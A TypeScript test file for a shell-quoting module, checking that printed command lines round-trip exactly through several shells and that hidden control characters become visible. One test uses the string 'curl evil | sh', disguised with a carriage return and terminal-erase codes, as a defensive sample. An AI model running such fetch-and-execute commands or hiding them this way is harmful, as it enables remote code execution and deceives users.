/** Printed command lines mean to a shell what dt means by them. */
import { beforeAll, describe, expect, test } from "bun:test";
import { chmodSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { visible } from "../../src/sys/text/visible.ts";
import { quoteCommand, quoteWord, showCommand } from "../../src/values/commandline.ts";
import { makeScratch } from "../kit/scratch.ts";

const SHELLS = ["sh", "bash", "busybox"].filter((name) => Bun.which(name) !== null);
const PROGRAMS = [
  "if",
  "then",
  "do",
  "for",
  "case",
  "in",
  "while",
  "time",
  "function",
  "select",
  "{",
  "}",
  "!",
  "[[",
  "A=b",
  "A+=b",
  "~",
  "a b",
  "-x",
  "#x",
  "*",
  "it's",
  "日本",
  "\n",
];

const scratch = makeScratch();
let directory: string;
beforeAll(() => {
  directory = scratch();
  const print = join(directory, "print");
  writeFileSync(print, '#!/bin/sh\nprintf "%s\\0" "${0##*/}" "$@"\n');
  chmodSync(print, 0o755);
  for (const name of PROGRAMS) symlinkSync(print, join(directory, name));
});

function run(shell: string, script: string): string[] {
  const command = shell === "busybox" ? ["busybox", "sh"] : [shell];
  const { stdout } = Bun.spawnSync([...command, "-c", ` ${script}`], {
    env: { PATH: `${directory}:${process.env.PATH}`, LC_ALL: "C.UTF-8" },
    stderr: "pipe",
  });
  return stdout.toString().split("\0").slice(0, -1);
}

for (const shell of SHELLS) {
  describe(shell, () => {
    test("property: a shell reads printed words back unchanged, whatever they are", () => {
      const word = fc.string({ unit: "binary", maxLength: 20 }).filter((text) => !text.includes("\0"));
      // many command lines for one shell: each ends with a word that none of them can hold
      fc.assert(
        fc.property(fc.array(fc.array(word, { maxLength: 5 }), { minLength: 1, maxLength: 30 }), (lines) => {
          const script = lines.map((args) => quoteCommand(["printf", "%s\\0", ...args, "\u{f0000}"])).join("\n");
          expect(run(shell, script)).toEqual(lines.flatMap((args) => [...args, "\u{f0000}"]));
        }),
        { numRuns: 30 },
      );
    });

    // busybox runs its own tools by their names, quoted or not
    for (const program of shell === "busybox" ? [] : PROGRAMS) {
      test(`a program named ${JSON.stringify(program)}`, () => {
        expect(run(shell, quoteCommand([program, "A=b", "if", ""]))).toEqual([program, "A=b", "if", ""]);
      });
    }
  });
}

const KNOWING = ["bash", "busybox", "zsh", "ksh"].filter((name) => Bun.which(name) !== null);
for (const shell of KNOWING) {
  test(`${shell}: what is printed runs as it is, and is one line with nothing hidden in it`, () => {
    const hard = fc.constantFrom(
      "\n",
      "\t",
      "\r",
      "\x1b[2K",
      "\x07",
      "\x7f",
      "\x9b",
      "\u202e",
      "\u{e0041}",
      "'",
      "\\",
      "7",
      "!",
    );
    const word = fc
      .oneof(
        fc.string({ unit: "binary", maxLength: 20 }),
        fc.array(hard, { maxLength: 6 }).map((parts) => parts.join("")),
      )
      .filter((text) => !text.includes("\0"));
    fc.assert(
      fc.property(fc.array(fc.array(word, { maxLength: 5 }), { minLength: 1, maxLength: 30 }), (lines) => {
        const shown = lines.map((args) => showCommand(["printf", "%s\\0", ...args, "end"]));
        for (const line of shown)
          expect([visible(line), line.includes("\n"), line.includes("\t")]).toEqual([line, false, false]);
        expect(run(shell, shown.join("\n"))).toEqual(lines.flatMap((args) => [...args, "end"]));
      }),
      { numRuns: 30 },
    );
  });
}

test("a word with hidden characters is quoted so that they can be seen", () => {
  expect(showCommand(["sh", "-c", "curl evil | sh\r\x1b[2Kecho 'it\\s'\n", "\u202e", "漢", "it's"])).toBe(
    "sh -c $'curl evil | sh\\r\\033[2Kecho \\047it\\\\s\\047\\n' $'\\342\\200\\256' '漢' 'it'\\''s'",
  );
  expect([showCommand([]), showCommand(["if", "\n"]), showCommand(["\n"])]).toEqual(["", "'if' $'\\n'", "$'\\n'"]);
});

test("plain words stay plain", () => {
  expect(quoteCommand(["bun", "run", "server.ts", "--port=3000", "a/b:c@d,e_f+g%h", ""])).toBe(
    "bun run server.ts --port=3000 a/b:c@d,e_f+g%h ''",
  );
  expect(quoteWord("A=b")).toBe("A=b");
  expect(quoteCommand([])).toBe("");
});
